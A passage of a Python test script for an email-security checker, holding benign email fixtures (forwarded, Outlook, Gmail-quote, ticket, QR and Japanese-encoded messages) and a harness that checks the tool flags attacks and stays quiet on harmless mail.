ok('fwd-eml', m(frm='From: Jane <jane@shop.example>',sub='Subject: Fwd: hello',ct='Content-Type: multipart/mixed; boundary=q',body='--q\r\nContent-Type: text/plain\r\n\r\nsee this please\r\n--q\r\nContent-Type: message/rfc822\r\n\r\nFrom: Bob <bob@bank.example>\r\nTo: jane@shop.example\r\nReply-To: x@y.example\r\nSubject: hi\r\nDate: Mon, 9 Nov 2026 09:12:00 +0000\r\n\r\nhello\r\n--q--'))
ok('outlook-word', html('<!--[if gte mso 9]><xml></xml><![endif]--><style>p.MsoNormal{margin:0cm} span.EmailStyle17{color:windowtext} div.WordSection1{page:WordSection1}</style><div class=WordSection1><p class=MsoNormal>Hello Alice, see you on Monday at the station.<o:p></o:p></p><img src="cid:image001.png@01D">&nbsp;</div>',frm='From: Jane <jane@shop.example>'))
ok('gmail-quote', html('<div dir="ltr">Yes, see you on Monday at the station.</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, Alice &lt;<a href="mailto:alice@victim.example">alice@victim.example</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0 0 0 .8ex">Monday?</blockquote></div>',frm='From: Jane <jane@shop.example>'))
ok('ticket', m(frm='From: "Jane Doe (Shop Support)" <support@shop.example>\r\nReply-To: ticket+123@shop.example',sub='Subject: [Ticket #123] Your question'))
ok('order-qr', html('<p>Your ticket for the concert. Show this at the door when you come in to the hall.</p><img src="https://shop.example/qr.png" width=200 height=200>',frm='From: Shop <news@shop.example>'))
ok('fullwidth-jp', m(frm='From: =?utf-8?B?'+base64.b64encode('株式会社ＡＢＣ'.encode()).decode()+'?= <news@shop.example>',sub='Subject: =?utf-8?B?'+base64.b64encode('ＡＢＣ商品のご案内'.encode()).decode()+'?='))


def report(message, *options):
    with tempfile.NamedTemporaryFile(suffix='.eml', dir=os.environ.get('TMPDIR')) as f:
        f.write(message)
        f.flush()
        p = subprocess.run([MAILCHECK, '--no-config', '--trust', 'mx.victim.example', '--format', 'json', '--fail-on', 'none', *options, f.name],
                           capture_output=True, timeout=60)
    return json.loads(p.stdout)


def main():
    zone = tempfile.NamedTemporaryFile('w', suffix='.zone', dir=os.environ.get('TMPDIR'))
    zone.write(ZONE)
    zone.flush()
    for name, codes, message, least in ATTACKS:
        got = {f['code']: SEVERITY.index(f['severity']) for f in report(message, '--assume-complete')['findings']}
        hit = any(got.get(c, 0) >= SEVERITY.index(least) for c in codes)
        check(hit, '%s: %s' % (name, ' or '.join(codes)), 'not ' + ' '.join(got))
    for name, message in BENIGN:
        loud = [f for f in report(message, '--dns', zone.name)['findings'] if SEVERITY.index(f['severity']) >= SEVERITY.index('medium')]
        check(not loud, name + ' is quiet', '; '.join('%s: %s' % (f['code'], f['detail']) for f in loud))
    end()


if __name__ == '__main__':
    main()
